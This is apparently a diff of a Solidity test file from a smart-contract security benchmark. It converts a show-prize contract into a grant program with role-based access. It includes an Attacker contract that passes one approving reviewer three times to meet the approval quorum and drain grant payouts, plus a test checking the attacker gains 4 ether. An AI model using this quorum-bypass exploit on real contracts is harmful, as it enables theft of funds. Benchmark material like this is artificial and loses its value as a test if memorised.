@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.24;
 
-import "./GreenfinchShow.sol";
+import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
+import "./GrantProgram.sol";
 
 // assay-canary-5bd01e0c-461a-4923-933b-85d14a10322e
 
@@ -13,173 +14,197 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-/// Entered eight jars; one of the judges liked them.
+/// Has eight applications; one of the reviewers has approved them.
 contract Attacker {
-    GreenfinchShow internal show;
+    GrantProgram internal program;
 
-    constructor(GreenfinchShow show_) {
-        show = show_;
+    constructor(GrantProgram program_) {
+        program = program_;
     }
 
     receive() external payable {}
 
-    function enter() external {
-        for (uint256 i = 0; i < 8; ++i) show.enter{value: 0.01 ether}(GreenfinchShow.Class.Preserves, "quince");
+    function submit() external {
+        for (uint256 i = 0; i < 8; ++i) program.submit{value: 0.01 ether}(IGrantProgram.Track.Research, "survey");
     }
 
-    function run(uint256 first, address friend) external {
-        address[] memory judges = new address[](3);
-        (judges[0], judges[1], judges[2]) = (friend, friend, friend);
+    function run(uint256 first, address reviewer) external {
+        address[] memory reviewers = new address[](3);
+        (reviewers[0], reviewers[1], reviewers[2]) = (reviewer, reviewer, reviewer);
         for (uint256 i = first; i < first + 8; ++i) {
-            show.decorate(i, judges);
-            show.payPrize(i);
+            program.claimAward(i, reviewers);
+            program.payGrant(i);
         }
     }
 }
 
 contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
-    uint256 internal constant DAY = 1_700_000_000;
+    uint256 internal constant START = 1_700_000_000;
+    address internal constant MANAGER = address(0x3A4A);
 
-    GreenfinchShow internal show;
-    Attacker internal jam;
-    address[4] internal judges = [address(0x1001), address(0x2002), address(0x3003), address(0x4004)];
+    GrantProgram internal program;
+    Attacker internal applicant;
+    address[4] internal reviewers = [address(0x1001), address(0x2002), address(0x3003), address(0x4004)];
 
     receive() external payable {}
 
     function setUp() public {
-        vm.warp(DAY - 10 days);
+        vm.warp(START - 10 days);
         vm.deal(address(this), 20 ether);
-        show = new GreenfinchShow{value: 5 ether}(0.5 ether);
-        show.setShowDay(DAY);
-        for (uint256 i = 0; i < 4; ++i) show.setJudge(judges[i], true);
-        show.enter{value: 0.01 ether}(GreenfinchShow.Class.Bread, "rye");
-        jam = new Attacker(show);
-        vm.deal(address(jam), 0.08 ether);
-        jam.enter();
-        vm.warp(DAY + 3 hours);
+        program = new GrantProgram(address(this));
+        program.initialize{value: 5 ether}(0.5 ether, MANAGER);
+        vm.prank(MANAGER);
+        program.scheduleReview(START);
+        for (uint256 i = 0; i < 4; ++i) program.grantRole(program.REVIEWER_ROLE(), reviewers[i]);
+        program.submit{value: 0.01 ether}(IGrantProgram.Track.Security, "audit");
+        applicant = new Attacker(program);
+        vm.deal(address(applicant), 0.08 ether);
+        applicant.submit();
+        vm.warp(START + 3 hours);
         for (uint256 i = 1; i <= 8; ++i) {
-            vm.prank(judges[1]);
-            show.nod(i);
+            vm.prank(reviewers[1]);
+            program.approve(i);
+        }
+    }
+
+    function _approvals() private returns (address[] memory list) {
+        list = new address[](3);
+        for (uint256 i = 0; i < 3; ++i) {
+            vm.prank(reviewers[i]);
+            program.approve(0);
+            list[i] = reviewers[i];
         }
     }
 
     function test_Regular() public {
-        address[] memory list = new address[](3);
-        for (uint256 i = 0; i < 3; ++i) {
-            vm.prank(judges[i]);
-            show.nod(0);
-            list[i] = judges[i];
-        }
-        (bool ok, ) = address(show).call(abi.encodeCall(show.nod, (0)));
-        require(!ok, "not a judge");
-        address[] memory other = new address[](3);
-        (other[0], other[1], other[2]) = (judges[0], judges[1], judges[3]);
-        require(!_decorate(0, other), "no nod of the fourth");
-        (other[1], other[2]) = (judges[2], judges[1]);
-        require(!_decorate(0, other), "not in order");
-        require(!_decorate(0, new address[](2)), "too few");
-        require(!_decorate(1, list), "of another");
-
-        show.decorate(0, list);
-        require(!_decorate(0, list), "decorated twice");
-        require(show.rosettes(GreenfinchShow.Class.Bread) == 1, "counted");
+        address[] memory list = _approvals();
+        program.claimAward(0, list);
+        require(program.awardCount(IGrantProgram.Track.Security) == 1, "counted");
         uint256 before = address(this).balance;
-        show.payPrize(0);
-        require(address(this).balance == before + 0.5 ether, "prize");
-        (ok, ) = address(show).call(abi.encodeCall(show.payPrize, (0)));
-        require(!ok, "paid twice");
-        require(show.entry(0).paidOut && !show.entry(1).rosette, "entries");
-        vm.warp(DAY + 61 days);
-        show.closePurse();
-        require(address(show).balance == 0, "purse");
-
-        (ok, ) = address(show).call{value: 1 ether}("");
-        require(ok && address(show).balance == 1 ether, "a gift");
-    }
-
-    function _decorate(uint256 id, address[] memory list) private returns (bool ok) {
-        (ok, ) = address(show).call(abi.encodeCall(show.decorate, (id, list)));
+        program.payGrant(0);
+        require(address(this).balance == before + 0.5 ether, "grant");
+        require(program.getApplication(0).paid && !program.getApplication(1).awarded, "applications");
+        (bool success, ) = address(program).call{value: 1 ether}("");
+        require(success, "funded");
+        vm.warp(START + 60 days);
+        vm.prank(MANAGER);
+        program.closeProgram(MANAGER);
+        require(address(program).balance == 0 && MANAGER.balance == 5.59 ether, "closed");
+        bytes32 role = program.REVIEWER_ROLE();
+        program.revokeRole(role, reviewers[0]);
+        vm.prank(reviewers[1]);
+        program.renounceRole(role, reviewers[1]);
+        require(!program.hasRole(role, reviewers[0]) && !program.hasRole(role, reviewers[1]), "roles");
     }
 
     // What is refused, each from the state after setUp().
 
     /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes4 why) internal {
+    function refuses(address who, bytes memory why) internal {
         vm.prank(who);
         vm.expectRevert(why);
     }
 
-    /// The day, the judges and the purse are the secretary's.
+    /// The next call is made by who, who does not have this role.
+    function refusesRole(address who, bytes32 role) internal {
+        refuses(who, abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
+    }
+
     function test_RefusesStrangers() public {
-        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
-        show.setShowDay(DAY + 1 days);
-        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
-        show.setJudge(address(0xBEE), true);
-        vm.expectRevert(GreenfinchShow.JudgesOnly.selector);
-        show.nod(1);
-        vm.warp(DAY + 61 days);
-        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
-        show.closePurse();
+        bytes32 manager = program.MANAGER_ROLE();
+        bytes32 reviewer = program.REVIEWER_ROLE();
+        refusesRole(reviewers[0], manager);
+        program.scheduleReview(START + 1 days);
+        refusesRole(MANAGER, reviewer);
+        program.approve(1);
+        refusesRole(MANAGER, bytes32(0));
+        program.grantRole(reviewer, MANAGER);
+        refusesRole(MANAGER, bytes32(0));
+        program.revokeRole(reviewer, reviewers[0]);
+        vm.warp(START + 60 days);
+        refusesRole(reviewers[0], manager);
+        program.closeProgram(reviewers[0]);
     }
 
-    /// Everything has its day.
-    function test_RefusesOtherDays() public {
-        vm.expectRevert(GreenfinchShow.NotThisDay.selector);
-        show.enter{value: 0.01 ether}(GreenfinchShow.Class.Bread, "late");
-        vm.warp(DAY - 1);
-        vm.expectRevert(GreenfinchShow.EntryFee.selector);
-        show.enter(GreenfinchShow.Class.Bread, "free");
-        refuses(judges[0], GreenfinchShow.NotThisDay.selector);
-        show.nod(0);
-        vm.warp(DAY + 1 days);
-        refuses(judges[0], GreenfinchShow.NotThisDay.selector);
-        show.nod(0);
-        vm.warp(DAY + 60 days - 1);
-        vm.expectRevert(GreenfinchShow.NotThisDay.selector);
-        show.closePurse();
+    function test_RefusesSetups() public {
+        vm.expectRevert("GrantProgram: zero address");
+        new GrantProgram(address(0));
+        GrantProgram fresh = new GrantProgram(address(this));
+        vm.expectRevert("GrantProgram: no grant");
+        fresh.initialize(0, MANAGER);
+        refusesRole(MANAGER, bytes32(0));
+        fresh.initialize(1 ether, MANAGER);
+        vm.expectRevert(Initializable.InvalidInitialization.selector);
+        program.initialize(1 ether, MANAGER);
     }
 
-    /// Nobody judges or decorates for others, or without nods.
-    function test_RefusesDecorations() public {
-        show.setJudge(address(this), true);
-        vm.expectRevert(GreenfinchShow.OwnEntry.selector);
-        show.nod(0);
-        address[] memory list = new address[](3);
-        for (uint256 i = 0; i < 3; ++i) {
-            vm.prank(judges[i]);
-            show.nod(0);
-            list[i] = judges[i];
-        }
-        refuses(judges[0], GreenfinchShow.ExhibitorOnly.selector);
-        show.decorate(0, list);
-        address[] memory two = new address[](2);
-        (two[0], two[1]) = (list[0], list[1]);
-        vm.expectRevert(abi.encodeWithSelector(GreenfinchShow.TooFewNods.selector, 2));
-        show.decorate(0, two);
-        vm.expectRevert(GreenfinchShow.NothingToPay.selector);
-        show.payPrize(0);
-        show.decorate(0, list);
-        vm.deal(address(show), 0);
-        vm.expectRevert(GreenfinchShow.Unpaid.selector);
-        show.payPrize(0);
+    function test_RefusesOtherTimes() public {
+        vm.expectRevert("GrantProgram: submission closed");
+        program.submit{value: 0.01 ether}(IGrantProgram.Track.Security, "late");
+        vm.warp(START - 1);
+        vm.expectRevert("GrantProgram: wrong fee");
+        program.submit(IGrantProgram.Track.Security, "free");
+        refuses(reviewers[0], "GrantProgram: review not started");
+        program.approve(0);
+        vm.warp(START + 7 days);
+        refuses(reviewers[0], "GrantProgram: review ended");
+        program.approve(0);
+        vm.warp(START + 60 days - 1);
+        refuses(MANAGER, "GrantProgram: claims open");
+        program.closeProgram(MANAGER);
+    }
+
+    function test_RefusesAwards() public {
+        program.grantRole(program.REVIEWER_ROLE(), address(this));
+        vm.expectRevert("GrantProgram: own application");
+        program.approve(0);
+        address[] memory list = _approvals();
+        refuses(reviewers[0], "GrantProgram: not the applicant");
+        program.claimAward(0, list);
+        address[] memory other = new address[](2);
+        (other[0], other[1]) = (list[0], list[1]);
+        vm.expectRevert("GrantProgram: too few approvals");
+        program.claimAward(0, other);
+        other = new address[](3);
+        (other[0], other[1], other[2]) = (list[0], list[2], list[1]);
+        vm.expectRevert("GrantProgram: reviewers not sorted");
+        program.claimAward(0, other);
+        (other[1], other[2]) = (list[1], reviewers[3]);
+        vm.expectRevert("GrantProgram: not approved");
+        program.claimAward(0, other);
+        vm.expectRevert("GrantProgram: nothing to pay");
+        program.payGrant(0);
+        program.claimAward(0, list);
+        vm.expectRevert("GrantProgram: already awarded");
+        program.claimAward(0, list);
+        program.payGrant(0);
+        vm.expectRevert("GrantProgram: nothing to pay");
+        program.payGrant(0);
+    }
+
+    function test_RefusesEmptyBudgets() public {
+        program.claimAward(0, _approvals());
+        vm.deal(address(program), 0);
+        vm.expectRevert("GrantProgram: payment failed");
+        program.payGrant(0);
     }
 
     function exploit() public {
-        jam.run(1, judges[1]);
+        applicant.run(1, reviewers[1]);
     }
 
     function test_Exploit() public {
-        uint256 before = address(jam).balance;
+        uint256 before = address(applicant).balance;
         exploit();
-        require(address(jam).balance >= before + 4 ether, "no prizes");
+        require(address(applicant).balance >= before + 4 ether, "no grants");
     }
 
     function target() public view returns (address) {
-        return address(show);
+        return address(program);
     }
 
     function attacker() public view returns (address) {
-        return address(jam);
+        return address(applicant);
     }
 }
